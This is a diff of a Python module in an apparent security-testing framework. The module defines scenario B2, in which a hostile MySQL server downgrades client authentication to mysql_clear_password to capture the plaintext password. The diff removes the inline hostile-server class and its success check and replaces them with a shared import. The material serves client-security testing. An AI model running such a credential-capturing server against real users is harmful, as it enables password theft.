@@ -1,58 +1,11 @@
 """B2: the server switches the login to a plugin that sends the password as it is."""
 
-from backwatch.attack.authority import Authority
-from backwatch.attack.entries import SECRET, run
-from backwatch.attack.entries._mysql import ONE, ORDERS, Connector
-from backwatch.attack.servers import HostileServer
-from backwatch.attack.servers.mysql import Packets
-from backwatch.attack.speakers.mysql import HonestMySQL, switch
+from backwatch.attack.entries import mysql_clear_password, run
+from backwatch.attack.entries._mysql import Connector
 
 
-class Asking(HonestMySQL):
-    """Wants the password itself, once it has turned."""
-
-    def log_in(self, wire: Packets, proof: bytes) -> None:
-        """Takes it."""
-        if self.hostile:
-            self.taken(switch(wire, b"mysql_clear_password").rstrip(b"\0"))
-        else:
-            super().log_in(wire, proof)
-
-
-class ClearPassword(Connector):
+class ClearPassword(Connector, mysql_clear_password.ClearPassword):
     """On mysql-connector-python, over verified TLS: whoever has taken the server over now has the password too."""
-
-    code = "B2"
-    attack = "asks for the password itself in place of a proof of it"
-    reference = "https://github.com/PyMySQL/PyMySQL/issues/842"
-    rule = "auth-downgraded"
-
-    @classmethod
-    def service(cls, authority: Authority) -> HostileServer:
-        """It takes what is sent."""
-        service = Asking(authority)
-        service.taken = service.kept.append
-        return service
-
-    def work(self) -> None:
-        """Reads orders, on a new connection each time."""
-        self._read()
-
-    def meet(self) -> object:
-        """The same."""
-        return self._read()
-
-    def _read(self) -> int:
-        self.renew()
-        with self.connected().cursor() as cursor:
-            cursor.execute(ORDERS, ONE)
-            return len(cursor.fetchall())
-
-    @classmethod
-    def succeeded(cls, service: HostileServer, got: object) -> bool:
-        """The password has arrived."""
-        del got
-        return SECRET.encode() in service.kept
 
 
 if __name__ == "__main__":
